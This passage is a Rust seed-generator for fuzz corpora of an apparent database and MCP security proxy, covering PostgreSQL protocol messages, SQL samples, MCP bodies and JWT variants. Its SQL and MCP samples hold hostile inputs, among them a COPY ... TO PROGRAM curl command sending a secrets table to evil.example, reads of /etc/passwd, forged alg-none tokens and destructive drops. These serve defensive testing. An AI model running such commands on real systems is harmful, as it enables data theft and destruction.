//! Writes the seed corpora of every fuzz target to `fuzz/corpus/<target>/`
//! (real protocol messages, SQL samples, MCP bodies and streams, tokens,
//! compiled example blobs, masking inputs). Deterministic: running it again
//! rewrites the same files. Files it does not know (regression seeds from
//! `fuzz/artifacts-found/`) are left alone.
//!
//!     cargo run --manifest-path fuzz/Cargo.toml -p pinhole-fuzz-support --bin seedgen

use std::path::{Path, PathBuf};

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use hmac::{Hmac, Mac};
use sha2::Sha256;

use pinhole_filter::pg::codec::{
    self, BackendMessage, Bind, FieldDescription, FrontendMessage, FunctionCall, StartupMessage,
    TargetKind, PROTOCOL_3_0,
};
use pinhole_filter::pg::session::Session;
use pinhole_fuzz_support::jwt::{self, Key};
use pinhole_fuzz_support::pg::{
    self as fpg, alice, auth_ok, cat, client, server, welcome, Fake, Record, Rules,
};
use pinhole_fuzz_support::policies;

struct Out {
    root: PathBuf,
    count: usize,
}

impl Out {
    fn put(&mut self, target: &str, name: &str, bytes: &[u8]) {
        let dir = self.root.join(target);
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        self.count += 1;
    }
}

// ------------------------------------------------------------ pg messages

fn q(sql: &str) -> Vec<u8> {
    codec::query(sql)
}

fn sync() -> Vec<u8> {
    FrontendMessage::Sync.encode()
}

fn terminate() -> Vec<u8> {
    FrontendMessage::Terminate.encode()
}

fn extended(name: &str, portal: &str, sql: &str) -> Vec<u8> {
    cat(&[
        codec::parse(name, sql),
        codec::bind(portal, name),
        FrontendMessage::Describe {
            kind: TargetKind::Portal,
            name: portal.into(),
        }
        .encode(),
        codec::execute(portal),
    ])
}

fn bind_with_params() -> Vec<u8> {
    FrontendMessage::Bind(Bind {
        portal: "p9".into(),
        statement: "s9".into(),
        param_formats: vec![0, 1],
        params: vec![Some(b"42".to_vec()), None, Some(vec![0, 0, 0, 7])],
        result_formats: vec![1],
    })
    .encode()
}

fn function_call(oid: u32) -> Vec<u8> {
    FrontendMessage::FunctionCall(FunctionCall {
        function_oid: oid,
        arg_formats: vec![0],
        args: vec![Some(b"42".to_vec())],
        result_format: 0,
    })
    .encode()
}

fn copy_data(d: &[u8]) -> Vec<u8> {
    FrontendMessage::CopyData { data: d.to_vec() }.encode()
}

fn row_desc(names: &[(&str, u32)]) -> Vec<u8> {
    BackendMessage::RowDescription {
        fields: names
            .iter()
            .map(|(n, t)| FieldDescription {
                name: (*n).into(),
                table_oid: 16_400,
                column_attr: 1,
                type_oid: *t,
                type_size: -1,
                type_modifier: -1,
                format: 0,
            })
            .collect(),
    }
    .encode()
}

fn data_row(vals: &[Option<&[u8]>]) -> Vec<u8> {
    BackendMessage::DataRow {
        values: vals.iter().map(|v| v.map(<[u8]>::to_vec)).collect(),
    }
    .encode()
}

fn complete(tag: &str) -> Vec<u8> {
    BackendMessage::CommandComplete { tag: tag.into() }.encode()
}

fn rfq() -> Vec<u8> {
    codec::ready_for_query(b'I')
}

fn error(msg: &str) -> Vec<u8> {
    BackendMessage::ErrorResponse {
        fields: vec![
            (b'S', "ERROR".into()),
            (b'V', "ERROR".into()),
            (b'C', "42501".into()),
            (b'M', msg.into()),
            (
                b'W',
                "PL/pgSQL function inline_code_block line 1 at RAISE".into(),
            ),
        ],
    }
    .encode()
}

fn sasl(mechs: &[&str]) -> Vec<u8> {
    BackendMessage::AuthenticationSasl {
        mechanisms: mechs.iter().map(|m| (*m).to_owned()).collect(),
    }
    .encode()
}

fn sasl_continue(d: &str) -> Vec<u8> {
    BackendMessage::AuthenticationSaslContinue {
        data: d.as_bytes().to_vec(),
    }
    .encode()
}

fn sasl_final(d: &str) -> Vec<u8> {
    BackendMessage::AuthenticationSaslFinal {
        data: d.as_bytes().to_vec(),
    }
    .encode()
}

fn md5_request() -> Vec<u8> {
    BackendMessage::AuthenticationMd5Password {
        salt: fpg::MD5_SALT,
    }
    .encode()
}

fn copy_in_response() -> Vec<u8> {
    BackendMessage::CopyInResponse {
        format: 0,
        column_formats: vec![0],
    }
    .encode()
}

fn copy_out_response() -> Vec<u8> {
    BackendMessage::CopyOutResponse {
        format: 0,
        column_formats: vec![0, 0],
    }
    .encode()
}

fn the_backend_messages() -> Vec<Vec<u8>> {
    vec![
        auth_ok(),
        codec::authentication_cleartext_password(),
        md5_request(),
        sasl(&["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"]),
        sasl_continue("r=fyko+d2lbbFgONRv9qkxdawL3rfcNHYJY1ZVvWVs7j,s=QSXCR+Q6sek8bf92,i=4096"),
        sasl_final("v=6rriTRBi23WpRR/wtup+mMhUZUn/dB5nLTJRsjl95G4="),
        BackendMessage::AuthenticationGss.encode(),
        BackendMessage::AuthenticationKerberosV5.encode(),
        welcome(),
        row_desc(&[("id", 23), ("email", 25), ("doc", 3802)]),
        data_row(&[Some(b"1"), Some(b"a@b.example"), None]),
        complete("SELECT 1"),
        error("pinhole: denied"),
        BackendMessage::NoticeResponse {
            fields: vec![(b'S', "NOTICE".into()), (b'M', "hello".into())],
        }
        .encode(),
        BackendMessage::ParseComplete.encode(),
        BackendMessage::BindComplete.encode(),
        BackendMessage::CloseComplete.encode(),
        BackendMessage::NoData.encode(),
        BackendMessage::ParameterDescription {
            types: vec![23, 25],
        }
        .encode(),
        BackendMessage::PortalSuspended.encode(),
        BackendMessage::EmptyQueryResponse.encode(),
        copy_in_response(),
        copy_out_response(),
        BackendMessage::CopyBothResponse {
            format: 1,
            column_formats: vec![1],
        }
        .encode(),
        BackendMessage::CopyData {
            data: b"1\tx\n".to_vec(),
        }
        .encode(),
        BackendMessage::CopyDone.encode(),
        BackendMessage::FunctionCallResponse {
            value: Some(b"42".to_vec()),
        }
        .encode(),
        BackendMessage::FunctionCallResponse { value: None }.encode(),
        BackendMessage::NotificationResponse {
            process_id: 7,
            channel: "jobs".into(),
            payload: "{\"id\":1}".into(),
        }
        .encode(),
        BackendMessage::NegotiateProtocolVersion {
            newest_minor: 0,
            unrecognized: vec!["_pq_.compression".into()],
        }
        .encode(),
        rfq(),
        codec::ready_for_query(b'T'),
        codec::ready_for_query(b'E'),
    ]
}

// ------------------------------------------------------------ SCRAM server

type HmacSha256 = Hmac<Sha256>;

fn hmac(key: &[u8], data: &[u8]) -> [u8; 32] {
    let mut m = HmacSha256::new_from_slice(key).expect("hmac key");
    m.update(data);
    m.finalize().into_bytes().into()
}

/// The server side of a SCRAM-SHA-256 exchange with the backend password.
struct Scram {
    bare: String,
    first: String,
}

impl Scram {
    fn salt() -> Vec<u8> {
        b"pinhole-fuzz-salt".to_vec()
    }

    fn new(client_first_data: &[u8]) -> Scram {
        let (_, initial) = codec::parse_sasl_initial_response(client_first_data).expect("sasl");
        let initial = String::from_utf8(initial.expect("initial")).expect("utf8");
        let bare = initial.strip_prefix("n,,").expect("gs2").to_owned();
        let nonce = format!("{}3rfcNHYJY1ZVvWVs7j", fpg::NONCE);
        let first = format!("r={nonce},s={},i=4096", STANDARD.encode(Self::salt()));
        Scram { bare, first }
    }

    fn finish(&self, client_final: &str) -> String {
        let (without_proof, _) = client_final.rsplit_once(",p=").expect("proof");
        let mut salted = [0u8; 32];
        pbkdf2::pbkdf2_hmac::<Sha256>(fpg::SECRET.as_bytes(), &Self::salt(), 4096, &mut salted);
        let auth = format!("{},{},{}", self.bare, self.first, without_proof);
        let server_key = hmac(&salted, b"Server Key");
        format!("v={}", STANDARD.encode(hmac(&server_key, auth.as_bytes())))
    }
}

/// A session driven live, recording each side's bytes as records.
struct Live {
    s: Session,
    a: Fake,
    records: Vec<Record>,
}

impl Live {
    fn new() -> Live {
        Live {
            s: Session::new(fpg::NONCE.into()),
            a: Fake::new(true, false, Rules::Strings),
            records: Vec::new(),
        }
    }

    /// The client sends `b`: what the server receives.
    fn client(&mut self, b: Vec<u8>) -> Vec<u8> {
        let st = self.s.on_downstream(&b, &self.a, fpg::NOW);
        let out = st.data.unwrap_or_else(|| b.clone());
        self.records.push(client(b));
        out
    }

    fn server(&mut self, b: Vec<u8>) -> Vec<u8> {
        let st = self.s.on_upstream(&b, &self.a, fpg::NOW);
        let out = st.data.unwrap_or_else(|| b.clone());
        self.records.push(server(b));
        out
    }
}

fn password_data(b: &[u8]) -> Vec<u8> {
    match codec::decode_frontend(b, codec::FrontendPhase::Normal) {
        Ok(Some((FrontendMessage::PasswordMessage { data }, _))) => data,
        other => panic!("expected a password message, got {other:?}"),
    }
}

/// A full SCRAM login, as records.
fn scram_login() -> Vec<Record> {
    let mut l = Live::new();
    l.client(alice());
    l.server(sasl(&["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"]));
    let first = l.client(codec::password_message(fpg::TOKEN));
    let scram = Scram::new(&password_data(&first));
    l.server(sasl_continue(&scram.first));
    let second = l.client(codec::password_message(fpg::TOKEN));
    let fin = String::from_utf8(password_data(&second)).expect("utf8");
    let v = scram.finish(&fin);
    l.server(cat(&[sasl_final(&v), auth_ok(), welcome()]));
    assert!(
        l.s.identity().is_some(),
        "the scram seed login failed: {:?}",
        l.s
    );
    l.records
}

fn login(kind: &str) -> Vec<Record> {
    match kind {
        "trust" => vec![
            client(alice()),
            server(cat(&[auth_ok(), welcome()])),
            client(codec::password_message(fpg::TOKEN)),
            server(rfq()),
        ],
        "cleartext" => vec![
            client(alice()),
            server(codec::authentication_cleartext_password()),
            client(codec::password_message(fpg::TOKEN)),
            server(cat(&[auth_ok(), welcome()])),
        ],
        "md5" => vec![
            client(alice()),
            server(md5_request()),
            client(codec::password_message(fpg::TOKEN2)),
            server(cat(&[auth_ok(), welcome()])),
        ],
        _ => scram_login(),
    }
}

/// The session of the property tests, after a login.
fn workload() -> Vec<Record> {
    let refusal = "pinhole: denied by rule `never-drop`: dropping objects is not allowed";
    let refused_ext = cat(&[
        BackendMessage::CloseComplete.encode(),
        BackendMessage::ParseComplete.encode(),
        BackendMessage::BindComplete.encode(),
        error(refusal),
    ]);
    vec![
        client(q("select 1")),
        server(cat(&[
            row_desc(&[("x", 23)]),
            data_row(&[Some(b"1")]),
            complete("SELECT 1"),
            rfq(),
        ])),
        client(q("drop table t")),
        server(cat(&[error(refusal), rfq()])),
        client(cat(&[
            extended("s1", "p1", "select * from public.orders where id = $1"),
            extended("s2", "p2", "drop table t"),
            sync(),
        ])),
        server(cat(&[
            BackendMessage::ParseComplete.encode(),
            BackendMessage::BindComplete.encode(),
            row_desc(&[("x", 23)]),
            data_row(&[Some(b"1")]),
            complete("SELECT 1"),
            refused_ext.clone(),
            rfq(),
        ])),
        client(q("copy t from stdin")),
        server(copy_in_response()),
        client(cat(&[
            copy_data(b"1\n"),
            copy_data(b"2\n"),
            FrontendMessage::CopyDone.encode(),
        ])),
        server(cat(&[complete("COPY 2"), rfq()])),
        client(function_call(99)),
        server(cat(&[error("pinhole: no"), rfq()])),
        client(cat(&[
            codec::bind("p3", "s2"),
            codec::execute("p3"),
            sync(),
        ])),
        server(cat(&[refused_ext, rfq()])),
        client(q(
            "delete from orders where id = 1; select * from public.orders",
        )),
        server(cat(&[error("pinhole: review"), rfq()])),
        client(q("copy (select * from orders) to stdout")),
        server(cat(&[
            copy_out_response(),
            BackendMessage::CopyData {
                data: b"1\tx\n".to_vec(),
            }
            .encode(),
            BackendMessage::CopyDone.encode(),
            complete("COPY 1"),
            rfq(),
        ])),
        client(cat(&[
            FrontendMessage::Close {
                kind: TargetKind::Statement,
                name: "s1".into(),
            }
            .encode(),
            sync(),
        ])),
        server(cat(&[BackendMessage::CloseComplete.encode(), rfq()])),
        client(terminate()),
    ]
}

fn with_chunks(mut records: Vec<Record>, chunk: u8) -> Vec<Record> {
    for (i, r) in records.iter_mut().enumerate() {
        r.chunk = if i % 2 == 0 { chunk } else { (chunk + 3) % 32 };
    }
    records
}

fn pg_seeds(out: &mut Out) {
    // Frontend streams: flags, nsizes, sizes, stream.
    let fe = |flags: u8, sizes: &[u8], stream: &[u8]| {
        let mut v = vec![flags, sizes.len() as u8];
        v.extend_from_slice(sizes);
        v.extend_from_slice(stream);
        v
    };
    let ssl = FrontendMessage::SslRequest.encode();
    let gss = FrontendMessage::GssEncRequest.encode();
    let cancel = FrontendMessage::CancelRequest {
        process_id: 4242,
        secret_key: vec![1, 2, 3, 4],
    }
    .encode();
    let startup_session = cat(&[
        alice(),
        codec::password_message(fpg::TOKEN),
        q("select 1"),
        extended("s1", "p1", "select * from orders where id = $1"),
        bind_with_params(),
        sync(),
        terminate(),
    ]);
    out.put(
        "pg_frontend",
        "startup-session",
        &fe(0, &[3, 7], &startup_session),
    );
    out.put(
        "pg_frontend",
        "ssl-then-startup",
        &fe(0, &[1], &cat(&[ssl.clone(), alice()])),
    );
    out.put("pg_frontend", "gssenc", &fe(0, &[], &cat(&[gss, alice()])));
    out.put("pg_frontend", "cancel", &fe(0, &[2], &cancel));
    let startup_v32 = FrontendMessage::Startup(StartupMessage {
        protocol: PROTOCOL_3_0 + 2,
        params: vec![
            ("user".into(), "bob".into()),
            ("options".into(), "-c role=admin".into()),
            ("replication".into(), "database".into()),
        ],
    })
    .encode();
    out.put(
        "pg_frontend",
        "startup-3.2-options",
        &fe(0, &[], &startup_v32),
    );
    let normal = cat(&[
        function_call(1247),
        copy_data(b"1\t2\n"),
        FrontendMessage::CopyDone.encode(),
        FrontendMessage::CopyFail {
            message: "client gave up".into(),
        }
        .encode(),
        FrontendMessage::Close {
            kind: TargetKind::Portal,
            name: "p1".into(),
        }
        .encode(),
        FrontendMessage::Flush.encode(),
        codec::sasl_initial_response("SCRAM-SHA-256", b"n,,n=,r=fyko+d2lbbFgONRv9qkxdawL"),
        codec::sasl_response(b"c=biws,r=abc,p=xyz"),
        FrontendMessage::Execute {
            portal: String::new(),
            max_rows: 10,
        }
        .encode(),
        terminate(),
    ]);
    out.put("pg_frontend", "normal-misc", &fe(1, &[5, 1, 9], &normal));
    out.put(
        "pg_frontend",
        "normal-extended",
        &fe(
            1,
            &[4],
            &cat(&[
                extended(
                    "",
                    "",
                    "with x as (delete from t returning *) select * from x",
                ),
                bind_with_params(),
                sync(),
            ]),
        ),
    );

    // Backend streams.
    let all = cat(&the_backend_messages());
    out.put("pg_backend", "every-message", &fe(0, &[3, 11], &all));
    out.put(
        "pg_backend",
        "ssl-refused",
        &fe(1, &[1], &cat(&[b"N".to_vec(), md5_request()])),
    );
    out.put("pg_backend", "ssl-accepted", &fe(1, &[], b"S"));
    for (i, m) in the_backend_messages().iter().enumerate() {
        out.put("pg_backend", &format!("message-{i:02}"), &fe(0, &[], m));
    }

    // Sessions.
    let put_session = |out: &mut Out, name: &str, mode: u8, records: &[Record]| {
        out.put("pg_session", name, &fpg::encode_input(mode, records));
    };
    for kind in ["trust", "cleartext", "md5", "scram"] {
        let l = login(kind);
        put_session(out, &format!("login-{kind}"), 0, &l);
        let mut full = l.clone();
        full.extend(workload());
        put_session(out, &format!("session-{kind}"), 0, &full);
        put_session(
            out,
            &format!("session-{kind}-split"),
            0,
            &with_chunks(full.clone(), 5),
        );
        put_session(out, &format!("session-{kind}-orders-db"), 0x10, &full);
    }
    put_session(out, "ready-workload-cleartext", 3, &workload());
    put_session(
        out,
        "ready-workload-trust-fastpath",
        2 | 8 | 0x20,
        &with_chunks(workload(), 1),
    );
    put_session(out, "ready-workload-orders-db", 3 | 0x10, &workload());
    let mut expiring = workload();
    if let Some(r) = expiring.get_mut(4) {
        r.expire = true;
    }
    put_session(out, "ready-workload-expires", 3, &expiring);
    put_session(
        out,
        "ssl-then-startup",
        0,
        &[
            client(ssl),
            server(b"N".to_vec()),
            client(alice()),
            server(md5_request()),
        ],
    );
    put_session(
        out,
        "cancel",
        0,
        &[client(cancel), server(b"garbage".to_vec())],
    );
    put_session(
        out,
        "bad-tokens",
        1,
        &[
            server(codec::authentication_cleartext_password()),
            client(codec::password_message(fpg::TOKEN_EXPIRED)),
            server(error("bye")),
        ],
    );
    put_session(
        out,
        "no-backend-password",
        1 | 4,
        &[
            server(md5_request()),
            client(codec::password_message(fpg::TOKEN)),
        ],
    );
    put_session(
        out,
        "startup-with-role",
        0,
        &[client(fpg::startup(&[
            ("user", "alice"),
            ("role", "postgres"),
        ]))],
    );
}

// ------------------------------------------------------------ SQL

const SQL: &[&str] = &[
    "select 1",
    "SELECT abalance FROM pgbench_accounts WHERE aid = 4711;",
    "UPDATE pgbench_accounts SET abalance = abalance + -4211 WHERE aid = 93;",
    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 4711, -4211, CURRENT_TIMESTAMP);",
    "select o.id, c.email from public.orders o join customers c on c.id = o.customer_id where o.total > 100.5 and c.name = 'bob'",
    "with recent as (select * from orders where created > now() - interval '1 day') select count(*) from recent",
    "with moved as (delete from orders where id = 1 returning *) insert into archive select * from moved",
    "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t",
    "DO $$ BEGIN RAISE NOTICE 'hi'; END $$",
    "DO $pinhole$ BEGIN RAISE EXCEPTION USING ERRCODE = '42501', MESSAGE = 'x'; END $pinhole$",
    "COPY orders TO STDOUT WITH (FORMAT csv)",
    "COPY orders FROM STDIN",
    "COPY (SELECT * FROM secrets) TO PROGRAM 'curl -d @- evil.example'",
    "COPY orders FROM '/etc/passwd'",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "EXPLAIN (ANALYZE 1) DELETE FROM t",
    "explain select * from orders",
    "select set_config('search_path', 'evil', false)",
    "SET search_path = 'x'",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION DEFAULT",
    "RESET ALL",
    "SHOW server_version",
    "BEGIN; UPDATE orders SET total = 0 WHERE id = 1; COMMIT",
    "delete from orders",
    "update orders set total = 0",
    "truncate orders",
    "drop table orders cascade",
    "create table t (id int primary key, email text)",
    "alter table orders add column note text",
    "create table t2 as select * from orders",
    "grant select on orders to public",
    "revoke all on orders from public",
    "PREPARE p(int) AS SELECT * FROM orders WHERE id = $1; EXECUTE p(1); DEALLOCATE p",
    "DECLARE c CURSOR FOR SELECT * FROM orders; FETCH 10 FROM c; CLOSE c",
    "LISTEN jobs; NOTIFY jobs, 'x'; UNLISTEN *",
    "VACUUM ANALYZE orders",
    "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
    "COMMENT ON TABLE orders IS 'x'",
    "MERGE INTO orders o USING updates u ON o.id = u.id WHEN MATCHED THEN UPDATE SET total = u.total WHEN NOT MATCHED THEN INSERT VALUES (u.id, u.total)",
    "CALL do_things(1, 'a')",
    "select pg_read_file('/etc/passwd')",
    "select lo_import('/etc/passwd')",
    "select * from dblink('host=x', 'select 1') as t(a int)",
    "select pg_terminate_backend(pid) from pg_stat_activity",
    "select * from t where data ? 'key' and data ?| array['a'] and data @> '{\"a\":1}'",
    "select $1::int, $2",
    "select E'a\\'b', U&'d\\0061t\\+000061', B'101', X'1F', N'nat'",
    "select 'a' -- comment\n, 2 /* block /* nested */ */",
    "select \"weird\"\"name\", \"a'b\" from \"Mixed\".\"Case\"",
    "select 1e5, 0x1F, 1_000, .5, 5., 1.5e-3",
    "select 'a'\n'b'",
    "select * from (((((((((((((((select 1)))))))))))))))",
    "select 1;;;select 2;",
    "",
    ";",
    "select 'unterminated",
    "SELECT * FROM t1 WHERE c2 = 3",
    "VALUES (1, 'a'), (2, 'b')",
    "select array[1,2][1], row(1,2), (select 1) as x, case when 1=1 then 'y' end",
    "insert into orders select * from secrets on conflict do nothing returning id",
    "select * from orders for update skip locked",
    "select nextval('orders_id_seq'), 'public.secrets'::regclass",
    "create function f() returns int language sql as $$ select 1 $$",
    "select * from orders tablesample system (10)",
];

fn sql_seeds(out: &mut Out) {
    for (i, s) in SQL.iter().enumerate() {
        let mut v = vec![i as u8];
        v.extend_from_slice(s.as_bytes());
        out.put("sql_classify", &format!("sql-{i:02}"), &v);
    }
}

// ------------------------------------------------------------ MCP

const MCP: &[&str] = &[
    r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"fuzz","version":"1"}}}"#,
    r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
    r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
    r#"{"jsonrpc":"2.0","id":"a","method":"resources/list","params":{"cursor":"x"}}"#,
    r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"deploy","arguments":{"environment":"staging","replicas":3}}}"#,
    r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"deploy","arguments":{"environment":"production","replicas":3}}}"#,
    r#"{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"query","arguments":{"sql":"select * from public.orders where id = 1"}}}"#,
    r#"{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"query","arguments":{"sql":"select pg_read_file('/etc/passwd'); delete from orders"}}}"#,
    r#"{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"k8s_get_secrets","arguments":null}}"#,
    r#"{"jsonrpc":"2.0","id":7,"method":"resources/read","params":{"uri":"docs://public/a/b.md"}}"#,
    r#"{"jsonrpc":"2.0","id":8,"method":"prompts/get","params":{"name":"triage","arguments":{}}}"#,
    r#"{"jsonrpc":"2.0","id":9,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"summarize"},"argument":{"name":"a","value":"b"}}}"#,
    r#"{"jsonrpc":"2.0","id":10,"method":"completion/complete","params":{"ref":{"type":"ref/resource","uri":"docs://private/x"}}}"#,
    r#"{"jsonrpc":"2.0","id":11,"method":"tasks/get","params":{"taskId":"t"}}"#,
    r#"{"jsonrpc":"2.0","method":"tools/call","params":{"name":"run_migration"}}"#,
    r#"[{"jsonrpc":"2.0","id":1,"method":"tools/list"},{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"search_orders","arguments":{"q":"late"}}},{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}]"#,
    r#"[{"jsonrpc":"2.0","id":1,"method":"ping"},{"jsonrpc":"2.0","id":1,"method":"ping"}]"#,
    r#"{"jsonrpc":"2.0","id":"s-1","result":{"roots":[]}}"#,
    r#"{"jsonrpc":"2.0","id":null,"error":{"code":-1,"message":"x"}}"#,
    r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"deploy","name":"k8s_get_secret"}}"#,
    r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"na\u006de":"deploy"}}"#,
    r#"{"jsonrpc":"2.0","id":1e0,"method":"tools/list"}"#,
    r#"{"jsonrpc":"2.0","id":1,"result":{"tools":[{"name":"k8s_get_pods","inputSchema":{}},{"name":"k8s_get_secret"},{"name":"search_orders"},{"nope":1},7],"nextCursor":"c"}}"#,
    r#"[{"jsonrpc":"2.0","id":"a","result":{"resources":[{"uri":"docs://public/x","name":"x"},{"uri":"docs://private/y"}]}},{"jsonrpc":"2.0","id":2,"result":{"prompts":[{"name":"summarize"},{"name":"secret-prompt"}]}}]"#,
    r#"{"jsonrpc":"2.0","id":3,"result":{"resourceTemplates":[{"uriTemplate":"docs://public/{id}"},{"uriTemplate":"db://{table}"}]}}"#,
    r#"{"jsonrpc":"2.0","id":99,"result":{"tools":[{"name":"deploy"}]}}"#,
    r#"{"jsonrpc":"2.0","id":1,"result":{"tools":"not an array"}}"#,
    r#"{"jsonrpc":"2.0","method":"notifications/tools/list_changed"}"#,
];

fn mcp_seeds(out: &mut Out) {
    for (i, s) in MCP.iter().enumerate() {
        for roles in [1u8, 2, 7] {
            let mut v = vec![roles];
            v.extend_from_slice(s.as_bytes());
            out.put("mcp_decode", &format!("mcp-{i:02}-roles{roles}"), &v);
        }
    }
    let sse_streams: Vec<String> = vec![
        format!("event: message\ndata: {}\n\n", MCP[22]),
        format!("id: 1\nretry: 1000\n: comment\ndata: {}\r\n\r\n", MCP[23]),
        format!("\u{feff}data: {}\r\rdata: plain text\n\n", MCP[24]),
        "data: {\"jsonrpc\":\"2.0\",\ndata: \"id\":1,\"result\":{\"tools\":[{\"name\":\"k8s_get_secret\"},{\"name\":\"k8s_get_pods\"}]}}\n\n".to_string(),
        format!("data: {}\n\ndata: {}", MCP[25], MCP[22]),
        "data:{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"tools\":[]}}\n\ndata\n\n:\n\n".to_string(),
        "data: {\"a\":1,\"a\":2}\n\n".to_string(),
        format!("data: {}\n\n", MCP[26]),
    ];
    for (i, s) in sse_streams.iter().enumerate() {
        for (roles, sizes) in [(1u8, &[][..]), (3, &[1u8][..]), (7, &[7u8, 13, 2][..])] {
            let mut v = vec![roles, sizes.len() as u8];
            v.extend_from_slice(sizes);
            v.extend_from_slice(s.as_bytes());
            out.put(
                "sse",
                &format!("sse-{i:02}-roles{roles}-cut{}", sizes.len()),
                &v,
            );
        }
    }
}

// ------------------------------------------------------------ JWT

fn jwt_seeds(out: &mut Out) {
    let raw = |s: &str| {
        let mut v = vec![0u8];
        v.extend_from_slice(s.as_bytes());
        v
    };
    let expired_claims = format!(
        r#"{{"iss":"{}","sub":"alice","aud":"pinhole","iat":{},"exp":{}}}"#,
        jwt::ISS,
        jwt::NOW - 7200,
        jwt::NOW - 3600
    );
    let expired = jwt::mint(
        Key::Ed,
        br#"{"alg":"EdDSA","kid":"ed-1"}"#,
        expired_claims.as_bytes(),
    );
    out.put("jwt", "raw-expired-ed", &raw(&expired));
    let expired_ec = jwt::mint(
        Key::Ec,
        br#"{"alg":"ES256","kid":"ec-1","typ":"at+jwt"}"#,
        expired_claims.as_bytes(),
    );
    out.put("jwt", "raw-expired-ec", &raw(&expired_ec));
    out.put("jwt", "raw-bearer", &raw(&format!("Bearer {expired}")));
    let none = format!(
        "{}.{}.",
        jwt::b64u(br#"{"alg":"none"}"#),
        jwt::b64u(jwt::valid_claims().as_bytes())
    );
    out.put("jwt", "raw-alg-none", &raw(&none));
    let hs = format!(
        "{}.{}.{}",
        jwt::b64u(br#"{"alg":"HS256","typ":"JWT"}"#),
        jwt::b64u(jwt::valid_claims().as_bytes()),
        jwt::b64u(&[0u8; 32])
    );
    out.put("jwt", "raw-hs256", &raw(&hs));
    let corp = format!(
        "{}.{}.{}",
        jwt::b64u(br#"{"alg":"RS256","kid":"corp-sso-rsa-2026"}"#),
        jwt::b64u(
            format!(
                r#"{{"iss":"{}","sub":"a","aud":"pinhole","exp":{}}}"#,
                jwt::CORP_ISS,
                jwt::NOW + 60
            )
            .as_bytes()
        ),
        jwt::b64u(&[7u8; 256])
    );
    out.put("jwt", "raw-corp-rsa", &raw(&corp));
    out.put("jwt", "raw-garbage", &raw("eyJ.eyJ.x"));
    out.put("jwt", "raw-four-parts", &raw("a.b.c.d"));

    let signed = |key: Key, header: &str, payload: &str| {
        let mut v = vec![1u8 | if key == Key::Ec { 4 } else { 0 }];
        v.push(header.len() as u8);
        v.extend_from_slice(header.as_bytes());
        v.extend_from_slice(payload.as_bytes());
        v
    };
    let c = jwt::valid_claims();
    out.put(
        "jwt",
        "signed-ed-valid",
        &signed(Key::Ed, r#"{"alg":"EdDSA","typ":"JWT","kid":"ed-1"}"#, &c),
    );
    out.put(
        "jwt",
        "signed-ed-kidless",
        &signed(Key::Ed, r#"{"alg":"EdDSA"}"#, &c),
    );
    out.put(
        "jwt",
        "signed-ec-valid",
        &signed(Key::Ec, r#"{"alg":"ES256","kid":"ec-1"}"#, &c),
    );
    out.put(
        "jwt",
        "signed-ec-wrong-kid",
        &signed(Key::Ec, r#"{"alg":"ES256","kid":"ed-1"}"#, &c),
    );
    out.put(
        "jwt",
        "signed-crit",
        &signed(Key::Ed, r#"{"alg":"EdDSA","crit":["b64"]}"#, &c),
    );
    out.put(
        "jwt",
        "signed-typ-dpop",
        &signed(Key::Ed, r#"{"alg":"EdDSA","typ":"dpop+jwt"}"#, &c),
    );
    let odd = format!(
        r#"{{"iss":"{}","sub":"x","aud":["mcp"],"exp":1.7e9,"nbf":-5,"iat":{}.9,"groups":"one","jti":"j"}}"#,
        jwt::ISS,
        jwt::NOW
    );
    out.put(
        "jwt",
        "signed-float-dates",
        &signed(Key::Ed, r#"{"alg":"EdDSA"}"#, &odd),
    );
    let long = format!(
        r#"{{"iss":"{}","sub":"x","aud":"pinhole","exp":{},"iat":{}}}"#,
        jwt::ISS,
        jwt::NOW + 7200,
        jwt::NOW
    );
    out.put(
        "jwt",
        "signed-too-long",
        &signed(Key::Ed, r#"{"alg":"EdDSA"}"#, &long),
    );
    let dup = format!(
        r#"{{"iss":"{}","sub":"x","sub":"y","aud":"pinhole","exp":{},"iat":{}}}"#,
        jwt::ISS,
        jwt::NOW + 60,
        jwt::NOW
    );
    out.put(
        "jwt",
        "signed-dup-sub",
        &signed(Key::Ed, r#"{"alg":"EdDSA"}"#, &dup),
    );
    for (i, (at, del, ins)) in [
        (0u16, 0u8, ""),
        (10, 1, "A"),
        (40, 0, "."),
        (200, 3, "_-"),
        (5, 7, "eyJhbGciOiJub25lIn0"),
    ]
    .iter()
    .enumerate()
    {
        for key in [Key::Ed, Key::Ec] {
            let mut v = vec![2u8 | if key == Key::Ec { 4 } else { 0 }];
            v.extend_from_slice(&at.to_be_bytes());
            v.push(*del);
            v.extend_from_slice(ins.as_bytes());
            out.put("jwt", &format!("splice-{i}-{}", key.alg()), &v);
        }
    }
}

// ------------------------------------------------------------ blob

fn blob_seeds(out: &mut Out) {
    for (name, example) in [
        ("mcp-tools", policies::MCP_TOOLS),
        ("orders-db", policies::ORDERS_DB),
    ] {
        let (_, blob) = policies::compile(example).unwrap_or_else(|e| panic!("{e}"));
        let mut raw = vec![0u8];
